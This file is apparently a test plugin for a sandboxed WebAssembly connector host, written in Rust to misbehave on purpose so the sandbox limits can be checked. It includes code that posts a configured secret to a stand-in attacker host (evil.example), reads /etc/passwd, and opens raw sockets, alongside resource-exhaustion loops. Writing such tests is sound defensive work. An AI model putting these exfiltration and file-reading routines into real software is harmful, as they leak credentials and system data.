@@ -1,0 +1,157 @@
+//! A plugin that misbehaves on purpose. Its `behavior` field picks the misdeed, done
+//! in `fetch`:
+//!
+//! - `panic`: panics with a known message;
+//! - `loop`: spins forever;
+//! - `memory`: allocates until it cannot;
+//! - `flood`: emits records forever; `log-flood`: logs forever;
+//! - `denied-host`: requests a host it was not granted, and reports the refusal;
+//! - `exfiltrate`: logs its secret, sends it to a host it was not granted, then to its
+//!   granted `target` (an echo server), and logs what came back;
+//! - `filesystem`: reads and writes files; `sockets`: opens a TCP connection to
+//!   `target` directly; both report what happened as an error.
+
+wit_bindgen::generate!({
+    world: "connector-plugin",
+    path: "../../../wit",
+});
+
+use exports::vulnbridge::connector::connector::Guest;
+use std::cell::RefCell;
+use vulnbridge::connector::http::{self, Method, Request};
+use vulnbridge::connector::log::{log, Level};
+use vulnbridge::connector::output;
+use vulnbridge::connector::types::{
+    Asset, Check, ConfigField, FieldError, FieldKind, Locators, Page, PluginError, PluginInfo, Setting,
+};
+
+thread_local! {
+    static SETTINGS: RefCell<Vec<Setting>> = const { RefCell::new(Vec::new()) };
+}
+
+fn setting(key: &str) -> String {
+    SETTINGS.with_borrow(|s| s.iter().find(|s| s.key == key).map(|s| s.value.clone()).unwrap_or_default())
+}
+
+fn field(key: &str, kind: FieldKind, default: Option<&str>) -> ConfigField {
+    ConfigField {
+        key: key.into(),
+        label: key.into(),
+        help: format!("The {key} of the misdeed."),
+        kind,
+        required: false,
+        default_value: default.map(Into::into),
+    }
+}
+
+fn post(url: &str, body: String) -> Result<Vec<u8>, String> {
+    let request = Request {
+        method: Method::Post,
+        url: url.into(),
+        headers: vec![("content-type".into(), "application/x-www-form-urlencoded".into())],
+        body: Some(body.into_bytes()),
+        timeout_ms: Some(5_000),
+    };
+    http::send(&request).map(|r| r.body).map_err(|e| format!("{e:?}"))
+}
+
+struct Hostile;
+
+impl Guest for Hostile {
+    fn info() -> PluginInfo {
+        PluginInfo {
+            id: "test-hostile".into(),
+            name: "Hostile test plugin".into(),
+            version: "0.1.0".into(),
+            description: "Misbehaves on purpose.".into(),
+            scanner_type: "Test".into(),
+            fields: vec![
+                field("behavior", FieldKind::Text, Some("panic")),
+                field("target", FieldKind::Host, Some("example.invalid")),
+                field("secret", FieldKind::Secret, None),
+            ],
+        }
+    }
+
+    fn configure(settings: Vec<Setting>) -> Result<Vec<String>, Vec<FieldError>> {
+        SETTINGS.set(settings);
+        Ok(Vec::new())
+    }
+
+    fn verify() -> Result<Vec<Check>, PluginError> {
+        Ok(Vec::new())
+    }
+
+    fn fetch() -> Result<Option<Page>, PluginError> {
+        let target = setting("target");
+        match setting("behavior").as_str() {
+            "panic" => panic!("test plugin panics on purpose: row 17 has no id"),
+            "loop" => {
+                let mut n: u64 = 0;
+                loop {
+                    n = std::hint::black_box(n.wrapping_add(1));
+                }
+            }
+            "memory" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1u8; 8 << 20]);
+                    std::hint::black_box(&hoard);
+                }
+            }
+            "flood" => loop {
+                let asset = Asset {
+                    key: "flood".into(),
+                    locators: Locators {
+                        external_id: Some("flood".into()),
+                        hostname: None,
+                        fqdn: None,
+                        netbios: None,
+                        ip_address: None,
+                        mac_address: None,
+                    },
+                    os: None,
+                    os_version: None,
+                    tags: Vec::new(),
+                    last_seen: None,
+                };
+                output::emit_assets(&vec![asset; 10_000]);
+            },
+            "log-flood" => loop {
+                log(Level::Info, "flooding the log");
+            },
+            "denied-host" => {
+                let refused = post("https://evil.example/collect", "x=1".into()).unwrap_err();
+                Err(PluginError::Other(format!("request refused: {refused}")))
+            }
+            "exfiltrate" => {
+                let secret = setting("secret");
+                log(Level::Warn, &format!("my secret is {secret}"));
+                let refused = post("https://evil.example/collect", format!("stolen={secret}")).unwrap_err();
+                log(Level::Warn, &format!("evil.example: {refused}"));
+                let echoed = post(&format!("{target}/echo"), format!("stolen={secret}"))
+                    .map_err(|e| PluginError::Other(format!("echo failed: {e}")))?;
+                log(Level::Warn, &format!("echo answered: {}", String::from_utf8_lossy(&echoed)));
+                Ok(None)
+            }
+            "filesystem" => {
+                let read = std::fs::read_to_string("/etc/passwd").map(|t| t.len());
+                let write = std::fs::write("stolen.txt", "x");
+                Err(PluginError::Other(format!("filesystem: read {read:?}, write {write:?}")))
+            }
+            "sockets" => {
+                let address = target.trim_start_matches("http://").trim_end_matches('/').to_string();
+                let connect = std::net::TcpStream::connect(address.as_str()).map(|_| "connected");
+                Err(PluginError::Other(format!("sockets: connect to {address}: {connect:?}")))
+            }
+            other => Err(PluginError::Other(format!("unknown behavior `{other}`"))),
+        }
+    }
+
+    fn map(_: Page) -> Result<(), PluginError> {
+        Ok(())
+    }
+}
+
+#[cfg(target_arch = "wasm32")]
+export!(Hostile);
